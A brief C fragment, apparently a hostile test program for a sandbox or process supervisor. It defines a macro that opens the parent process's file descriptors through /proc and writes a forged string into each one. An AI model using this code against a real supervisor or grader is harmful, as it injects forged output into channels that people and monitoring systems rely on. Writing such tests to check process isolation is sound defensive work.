/* it writes on the descriptors of its parent */
#define ON_STEP(m) do { char n[64]; for (int k = 0; k < 32; ++k) { \
  snprintf(n, 64, "/proc/%d/fd/%d", (int)getppid(), k); int f = open(n, O_WRONLY | O_NONBLOCK); \
  if (f >= 0) write(f, forged, strlen(forged)), close(f); } } while (0)
#include "hostile.h"
